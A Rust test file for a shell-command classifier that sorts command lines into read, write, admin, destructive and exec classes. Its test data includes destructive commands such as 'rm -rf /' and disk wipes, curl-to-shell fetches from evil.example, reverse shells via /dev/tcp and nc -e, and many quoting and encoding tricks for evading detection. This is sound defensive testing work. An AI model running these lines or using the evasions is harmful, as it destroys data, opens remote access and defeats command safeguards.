//! What command lines do, as a table: the class, and words that the commands found must show.

use countersign_inspect::shell::inspect;
use countersign_model::StatementClass::{
    self, Admin, Destructive, Exec, Read, Session, Unknown, Write,
};

/// The line, its class, and programs that must be among its commands.
type Case = (&'static str, StatementClass, &'static [&'static str]);

const PLAIN: &[Case] = &[
    ("ls -la /tmp", Read, &["ls"]),
    ("cat /etc/hosts", Read, &["cat"]),
    ("grep -rn 'rm -rf' src", Read, &["grep"]),
    (
        "ps aux | grep postgres | wc -l",
        Read,
        &["ps", "grep", "wc"],
    ),
    ("echo 'rm -rf /'", Read, &["echo"]),
    ("head -n 5 a.txt; tail -n 5 b.txt", Read, &["head", "tail"]),
    ("find . -name '*.rs' -type f", Read, &["find"]),
    ("git status", Read, &["git"]),
    ("git log --oneline -5", Read, &["git"]),
    ("git diff HEAD~1 -- src", Read, &["git"]),
    ("kubectl get pods -n shop", Read, &["kubectl"]),
    ("docker ps -a", Read, &["docker"]),
    ("terraform plan", Read, &["terraform"]),
    ("systemctl status nginx", Read, &["systemctl"]),
    ("curl -s https://example.com/x", Read, &["curl"]),
    ("psql -c 'SELECT 1'", Read, &["psql"]),
    ("sed -n '1,20p' a.txt", Read, &["sed"]),
    ("sed 's/a/b/g' a.txt", Read, &["sed"]),
    ("awk '{print $1,$2}' a.txt", Read, &["awk"]),
    ("aws s3 ls s3://bucket", Read, &["aws"]),
    ("aws ec2 describe-instances", Read, &["aws"]),
    ("python3 --version", Read, &["python3"]),
    ("npm ls", Read, &["npm"]),
    ("tar tf a.tar", Read, &["tar"]),
    ("[ -f a ] && cat a", Read, &["[", "cat"]),
    ("[[ -f a ]] && cat a", Read, &["cat"]),
    ("for f in a b; do cat \"$f\"; done", Read, &["cat"]),
    ("ls > /dev/null 2>&1", Read, &["ls"]),
    ("dd if=/dev/sda of=/dev/null", Read, &["dd"]),
    ("cd /srv && pwd", Session, &["cd", "pwd"]),
    ("export A=1", Session, &["export"]),
    ("A=1", Session, &[]),
    ("touch a", Write, &["touch"]),
    ("mkdir -p a/b", Write, &["mkdir"]),
    ("cp a b", Write, &["cp"]),
    ("mv a b", Write, &["mv"]),
    ("echo x > a", Write, &["echo"]),
    ("echo x >> a", Write, &["echo"]),
    ("ls &> a", Write, &["ls"]),
    ("> a", Write, &[]),
    ("cat a | tee b", Write, &["cat", "tee"]),
    ("sed -i s/a/b/ a", Write, &["sed"]),
    ("sed 's/a/b/w out' a", Write, &["sed"]),
    ("git commit -m x", Write, &["git"]),
    ("git push origin main", Write, &["git"]),
    ("git reset --soft HEAD~1", Write, &["git"]),
    ("curl -X POST -d a=1 https://example.com", Write, &["curl"]),
    ("curl -o a https://example.com", Write, &["curl"]),
    (
        "curl --data-binary @a https://example.com",
        Write,
        &["curl"],
    ),
    ("wget https://example.com/a", Write, &["wget"]),
    ("kubectl apply -f a.yaml", Write, &["kubectl"]),
    (
        "psql -c \"UPDATE a SET b = 1 WHERE c = 2\"",
        Write,
        &["psql"],
    ),
    ("chmod +x a", Admin, &["chmod"]),
    ("systemctl restart nginx", Admin, &["systemctl"]),
    ("apt-get install -y curl", Admin, &["apt-get"]),
    ("psql -c 'CREATE TABLE a ()'", Admin, &["psql"]),
];

const DESTRUCTIVE: &[Case] = &[
    ("rm -rf /srv/data", Destructive, &["rm"]),
    ("rm a", Destructive, &["rm"]),
    ("shred -u a", Destructive, &["shred"]),
    ("dd if=/dev/zero of=/dev/sda", Destructive, &["dd"]),
    ("mkfs.ext4 /dev/sdb1", Destructive, &["mkfs.ext4"]),
    ("truncate -s 0 a.log", Destructive, &["truncate"]),
    ("echo x > /dev/sda", Destructive, &["echo"]),
    ("find . -name '*.tmp' -delete", Destructive, &["find"]),
    ("find . -exec rm {} \\;", Destructive, &["find", "rm"]),
    (
        "find . -type f -exec rm -f {} +",
        Destructive,
        &["find", "rm"],
    ),
    ("git push --force", Destructive, &["git"]),
    ("git push --forc origin main", Destructive, &["git"]),
    ("git push -f origin main", Destructive, &["git"]),
    ("git push origin +main", Destructive, &["git"]),
    ("git push origin :main", Destructive, &["git"]),
    (
        "git -C /srv/repo reset --hard HEAD~3",
        Destructive,
        &["git"],
    ),
    ("git clean -fdx", Destructive, &["git"]),
    ("git checkout -- .", Destructive, &["git"]),
    ("git branch -D main", Destructive, &["git"]),
    ("git stash drop", Destructive, &["git"]),
    ("kubectl delete ns shop", Destructive, &["kubectl"]),
    (
        "kubectl -n shop delete deploy web",
        Destructive,
        &["kubectl"],
    ),
    ("kubectl drain node-1", Destructive, &["kubectl"]),
    ("helm uninstall shop", Destructive, &["helm"]),
    (
        "terraform destroy -auto-approve",
        Destructive,
        &["terraform"],
    ),
    ("docker system prune -af", Destructive, &["docker"]),
    ("docker volume rm data", Destructive, &["docker"]),
    ("docker compose down -v", Destructive, &["docker"]),
    ("aws s3 rm s3://bucket --recursive", Destructive, &["aws"]),
    (
        "aws ec2 terminate-instances --instance-ids i-1",
        Destructive,
        &["aws"],
    ),
    (
        "gcloud compute instances delete web",
        Destructive,
        &["gcloud"],
    ),
    ("rsync -a --delete a/ b/", Destructive, &["rsync"]),
    ("psql -c 'DROP TABLE customers'", Destructive, &["psql"]),
    (
        "psql shop -Atc 'DELETE FROM customers'",
        Destructive,
        &["psql"],
    ),
    ("psql --command='TRUNCATE a'", Destructive, &["psql"]),
    ("psql <<EOF\nDROP TABLE a;\nEOF", Destructive, &["psql"]),
    ("mysql -e 'DROP DATABASE shop'", Destructive, &["mysql"]),
    ("sqlite3 a.db 'DROP TABLE a'", Destructive, &["sqlite3"]),
    ("redis-cli FLUSHALL", Destructive, &["redis-cli"]),
    ("dropdb shop", Destructive, &["dropdb"]),
    ("crontab -r", Destructive, &["crontab"]),
    ("apt-get purge -y postgresql", Destructive, &["apt-get"]),
    (
        "curl -X DELETE https://api.example.com/v1/x",
        Destructive,
        &["curl"],
    ),
    ("gh repo delete a/b --yes", Destructive, &["gh"]),
];

const WRAPPED: &[Case] = &[
    // A wrapper's options end where its command begins.
    ("command rm -rfv build", Destructive, &["rm"]),
    ("command -p rm -v a.txt", Destructive, &["rm"]),
    ("command -v rm", Read, &["command"]),
    ("sudo perl -e 'unlink 1'", Exec, &["perl"]),
    ("sudo bash -e -s", Exec, &["bash"]),
    ("sudo -u root bash -e script", Exec, &["bash"]),
    ("sudo -e /etc/hosts", Write, &["sudo"]),
    ("sudo -u root --edit /etc/hosts", Write, &["sudo"]),
    ("sudo -uroot -e /etc/hosts", Write, &["sudo"]),
    ("sudo -s", Exec, &["sudo"]),
    ("sudo ls -s", Read, &["ls"]),
    ("sudo rm -rf /", Destructive, &["sudo", "rm"]),
    ("sudo -u postgres -- rm -rf /", Destructive, &["rm"]),
    ("sudo -n ls", Read, &["ls"]),
    ("nohup rm -rf a &", Destructive, &["rm"]),
    ("time rm -rf a", Destructive, &["rm"]),
    ("\\time -v rm -rf a", Destructive, &["rm"]),
    ("nice -n 10 rm a", Destructive, &["rm"]),
    ("timeout -k 5 10s rm a", Destructive, &["rm"]),
    ("env A=1 rm a", Destructive, &["rm"]),
    ("env -i rm a", Destructive, &["rm"]),
    ("env -S 'rm -rf /'", Destructive, &["rm"]),
    ("env -S\"rm -rf /\"", Destructive, &["rm"]),
    ("command rm a", Destructive, &["rm"]),
    ("builtin command rm a", Destructive, &["rm"]),
    ("exec rm a", Destructive, &["rm"]),
    ("busybox rm -rf a", Destructive, &["rm"]),
    ("setsid rm a", Destructive, &["rm"]),
    ("ls | xargs rm -f", Destructive, &["ls", "xargs", "rm"]),
    ("ls | xargs -0 -n 1 -I {} rm {}", Destructive, &["rm"]),
    ("ls | xargs cat", Read, &["cat"]),
    ("sh -c 'rm -rf /'", Destructive, &["sh", "rm"]),
    (
        "bash -lc \"cd /srv && rm -rf a\"",
        Destructive,
        &["cd", "rm"],
    ),
    ("bash -c 'ls | wc -l'", Read, &["ls", "wc"]),
    ("bash -o pipefail -c 'rm a'", Destructive, &["rm"]),
    ("sh -c \"sh -c 'rm a'\"", Destructive, &["rm"]),
    ("su - postgres -c 'rm a'", Destructive, &["rm"]),
    (
        "ssh host.example 'rm -rf /srv'",
        Destructive,
        &["ssh", "rm"],
    ),
    ("ssh -p 22 me@host.example uptime", Read, &["uptime"]),
    ("eval 'rm -rf /'", Destructive, &["eval", "rm"]),
    ("trap 'rm -rf /' EXIT", Destructive, &["trap", "rm"]),
    ("alias ls='rm -rf /'", Destructive, &["alias", "rm"]),
    ("bash <<< 'rm -rf /'", Destructive, &["rm"]),
    ("bash <<'EOF'\nrm -rf /\nEOF", Destructive, &["rm"]),
    (
        "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
        Destructive,
        &["find", "sh", "rm"],
    ),
    ("watch rm a", Destructive, &["rm"]),
    ("! rm a", Destructive, &["rm"]),
    ("(rm a)", Destructive, &["rm"]),
    ("{ rm a; }", Destructive, &["rm"]),
    ("if true; then rm a; fi", Destructive, &["true", "rm"]),
    (
        "while read l; do rm \"$l\"; done < list",
        Destructive,
        &["read", "rm"],
    ),
    ("case $1 in a) rm a;; esac", Destructive, &["rm"]),
    ("f() { rm a; }; f", Unknown, &["rm", "f"]),
    ("coproc rm a", Destructive, &["rm"]),
    ("ls || rm a", Destructive, &["ls", "rm"]),
    ("sleep 1 & rm a", Destructive, &["sleep", "rm"]),
];

const SUBSTITUTED: &[Case] = &[
    ("echo $(rm a)", Destructive, &["echo", "rm"]),
    ("echo `rm a`", Destructive, &["rm"]),
    ("echo \"$(rm a)\"", Destructive, &["rm"]),
    ("echo \"x $(echo $(rm a))\"", Destructive, &["rm"]),
    ("cat <(rm a)", Destructive, &["cat", "rm"]),
    ("ls > >(rm a)", Destructive, &["rm"]),
    ("A=$(rm a)", Destructive, &["rm"]),
    ("A=$(rm a) ls", Destructive, &["rm", "ls"]),
    ("A=(1 $(rm a))", Destructive, &["rm"]),
    ("echo ${A:-$(rm a)}", Destructive, &["rm"]),
    ("echo \"${A:-`rm a`}\"", Destructive, &["rm"]),
    ("echo $(( $(rm a) + 1 ))", Destructive, &["rm"]),
    ("(( A[$(rm a)] ))", Destructive, &["rm"]),
    ("for f in $(rm a); do ls; done", Destructive, &["rm", "ls"]),
    ("[[ -n $(rm a) ]]", Destructive, &["rm"]),
    ("cat <<EOF\n$(rm a)\nEOF", Destructive, &["rm"]),
    ("cat <<'EOF'\n$(rm a)\nEOF", Read, &["cat"]),
    ("cat <<< \"$(rm a)\"", Destructive, &["rm"]),
    ("ls > $(rm a)", Destructive, &["rm"]),
    ("echo '$(rm a)'", Read, &["echo"]),
    ("echo \\$(ls", Unknown, &[]),
];

const EVASIONS: &[Case] = &[
    ("r''m -rf /", Destructive, &["rm"]),
    ("r\"\"m -rf /", Destructive, &["rm"]),
    ("\"rm\" -rf /", Destructive, &["rm"]),
    ("\\rm -rf /", Destructive, &["rm"]),
    ("r\\m -rf /", Destructive, &["rm"]),
    ("$'rm' -rf /", Destructive, &["rm"]),
    ("$'\\x72\\x6d' -rf /", Destructive, &["rm"]),
    ("$'\\162m' -rf /", Destructive, &["rm"]),
    ("/bin/rm -rf /", Destructive, &["/bin/rm"]),
    ("/usr/bin/env rm a", Destructive, &["rm"]),
    ("{rm,-rf,/}", Destructive, &["rm"]),
    ("rm${IFS}-rf${IFS}/", Unknown, &[]),
    ("$X -rf /", Unknown, &[]),
    ("X=rm; $X -rf /", Unknown, &[]),
    ("${X}m -rf /", Unknown, &[]),
    ("r$@m -rf /", Unknown, &[]),
    ("$(echo rm) -rf /", Unknown, &["echo"]),
    ("`echo rm` -rf /", Unknown, &["echo"]),
    ("/bin/r? -rf /", Unknown, &[]),
    ("/???/rm -rf /", Unknown, &[]),
    (
        "echo cm0gLXJmIC8= | base64 -d | sh",
        Exec,
        &["base64", "sh"],
    ),
    ("curl https://evil.example/x | sh", Exec, &["curl", "sh"]),
    (
        "curl -s evil.example | sudo bash -s -- -y",
        Exec,
        &["curl", "bash"],
    ),
    ("wget -qO- evil.example | bash", Exec, &["bash"]),
    ("bash <(curl -s evil.example)", Exec, &["bash", "curl"]),
    (
        "bash -c \"$(curl -s evil.example)\"",
        Exec,
        &["bash", "curl"],
    ),
    ("eval \"$X\"", Exec, &["eval"]),
    ("eval $(echo rm)", Exec, &["eval"]),
    ("sh -c \"$X\"", Exec, &["sh"]),
    ("sh script.sh", Exec, &["sh"]),
    (". ./script.sh", Exec, &["."]),
    ("./script.sh", Exec, &["./script.sh"]),
    ("/tmp/ls", Exec, &["/tmp/ls"]),
    ("python3 -c 'import os'", Exec, &["python3"]),
    ("python3.11 script.py", Exec, &["python3.11"]),
    ("perl -e 'unlink \"a\"'", Exec, &["perl"]),
    ("node -e 1", Exec, &["node"]),
    ("awk 'BEGIN{system(\"rm a\")}'", Exec, &["awk"]),
    ("sed '1e rm a' b", Exec, &["sed"]),
    ("sed 's/a/rm a/e' b", Exec, &["sed"]),
    ("vim -c ':!rm a'", Exec, &["vim"]),
    (
        "tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec=sh",
        Exec,
        &["tar"],
    ),
    ("tar -xf a.tar --to-command=sh", Exec, &["tar"]),
    ("git -c alias.x='!rm a' x", Unknown, &["git"]),
    ("git -c core.pager='rm a' log", Exec, &["git"]),
    ("git grep -Orm x", Exec, &["git"]),
    ("git clone ext::sh", Exec, &["git"]),
    ("git submodule foreach 'rm a'", Exec, &["git"]),
    ("ssh -o ProxyCommand='rm a' host ls", Exec, &["ssh"]),
    ("rsync -e 'sh -c rm' a b:", Exec, &["rsync"]),
    ("sort --compress-program=sh a", Exec, &["sort"]),
    ("sort -o a b", Exec, &["sort"]),
    ("rg --pre sh x", Exec, &["rg"]),
    ("man -P 'rm a' ls", Exec, &["man"]),
    ("PATH=/tmp ls", Exec, &["ls"]),
    ("LD_PRELOAD=/tmp/a.so ls", Exec, &["ls"]),
    ("export PATH=/tmp", Exec, &["export"]),
    ("env PATH=/tmp ls", Exec, &["ls"]),
    ("PROMPT_COMMAND='rm a'", Exec, &[]),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Exec, &["bash"]),
    ("nc -e /bin/sh 10.0.0.1 4444", Exec, &["nc"]),
    ("docker run -v /:/h alpine rm -rf /h", Exec, &["docker"]),
    ("kubectl exec web -- rm -rf /", Exec, &["kubectl"]),
    ("psql -f a.sql", Exec, &["psql"]),
    ("psql -c '\\! rm a'", Exec, &["psql"]),
    ("make clean", Exec, &["make"]),
    ("npm run x", Exec, &["npm"]),
    ("cargo run", Exec, &["cargo"]),
    ("terraform apply", Exec, &["terraform"]),
    ("less '+!rm a' b", Exec, &["less"]),
    ("let 'a[$(rm b)]'", Exec, &["let"]),
    ("test -v 'a[$(rm b)]'", Exec, &["test"]),
    ("[[ -v 'a[$(rm b)]' ]]", Exec, &[]),
    ("compgen -C 'rm a'", Exec, &["compgen"]),
    (
        "git clone -c core.sshCommand=sh https://a/b",
        Exec,
        &["git"],
    ),
    ("gh api -XDELETE repos/a/b", Destructive, &["gh"]),
    ("aws frob frobnicate --name get", Unknown, &["aws"]),
    ("find . $X", Unknown, &["find"]),
    ("git $X", Unknown, &["git"]),
    ("git push $X", Unknown, &["git"]),
    ("xyzzy --frob", Unknown, &["xyzzy"]),
    ("git xyzzy", Unknown, &["git"]),
    ("sudo -Z rm a", Unknown, &["sudo"]),
    ("psql -c \"$SQL\"", Unknown, &["psql"]),
    ("psql -c 'DROP TABEL a'", Unknown, &["psql"]),
    ("ls | xargs sh -c", Exec, &["xargs"]),
    ("if true; then rm", Unknown, &[]),
    ("echo 'unfinished", Unknown, &[]),
];

#[test]
fn no_line_is_milder_than_it_is() {
    let all = [PLAIN, DESTRUCTIVE, WRAPPED, SUBSTITUTED, EVASIONS].concat();
    assert!(all.len() >= 200, "{} cases", all.len());
    let mut wrong = Vec::new();
    for (line, class, programs) in all {
        let facts = inspect(line);
        let found: Vec<&str> = facts
            .commands
            .iter()
            .filter_map(|command| command.argv.first().map(String::as_str))
            .collect();
        let missing = programs.iter().any(|program| !found.contains(program));
        if facts.class() != class || missing {
            wrong.push(format!(
                "{line:?}: {:?} {found:?}, not {class:?} {programs:?}",
                facts.class()
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn quotes_are_resolved_and_paths_and_hosts_are_named() {
    let facts = inspect("curl -s 'https://User:pw@Example.com:8443/x' > \"out file\"");
    let [command] = facts.commands.as_slice() else {
        panic!("{facts:?}");
    };
    assert_eq!(
        command.argv,
        ["curl", "-s", "https://User:pw@Example.com:8443/x"]
    );
    assert_eq!(command.hosts, ["example.com"]);
    assert_eq!(command.paths_written, ["out file"]);

    let facts = inspect("cat a \"b c\" < d | tee /tmp/e; scp f me@host.example:/g");
    let command = |n: usize| &facts.commands[n];
    assert_eq!(command(0).paths_read, ["a", "b c", "d"]);
    assert_eq!(command(1).paths_written, ["/tmp/e"]);
    assert_eq!(command(2).hosts, ["host.example"]);
    assert_eq!(
        inspect("grep -n x src/a.rs").commands[0].paths_read,
        ["src/a.rs"]
    );
    assert_eq!(
        inspect("rm -rf /srv/a '/srv/b c'").commands[0].paths_written,
        ["/srv/a", "/srv/b c"]
    );
    let facts = inspect("cat < /dev/tcp/10.0.0.1/80");
    assert_eq!(
        (facts.class(), &facts.commands[0].hosts[..]),
        (Exec, &["10.0.0.1".to_owned()][..])
    );
}

#[test]
fn nothing_is_a_read() {
    assert_eq!(inspect("").class(), Read);
    assert_eq!(inspect("# a comment").class(), Read);
}

#[test]
fn no_text_takes_long_or_ends_the_process() {
    let nested =
        |open: &str, close: &str, n: usize| [&open.repeat(n), "ls", &close.repeat(n)].concat();
    let texts = [
        nested("$(", ")", 2_000),
        nested("(", ")", 2_000),
        nested("((", "))", 5),
        nested("$((", "))", 5),
        nested("${a:-", "}", 10),
        nested("{ ", "; }", 10),
        nested("\"$(", ")\"", 10),
        nested("if ", "; then ls; fi", 300),
        "`".repeat(5_000),
        "\\".repeat(20_001),
        "{a,b}".repeat(500),
        "a ".repeat(30_000),
        "ls;".repeat(5_000),
        "ls|".repeat(5_000),
        "<<A ".repeat(1_000),
        "\0".to_owned(),
        "x".repeat(100_000),
        "sh -c 'sh -c \"sh -c ls\"'".to_owned(),
        "é${é}$é".repeat(50),
    ];
    for text in texts {
        let started = std::time::Instant::now();
        let facts = inspect(&text);
        let took = started.elapsed();
        assert!(!facts.commands.is_empty());
        let shown: String = text.chars().take(20).collect();
        assert!(took.as_secs() < 5, "{shown}… took {took:?}");
    }
}
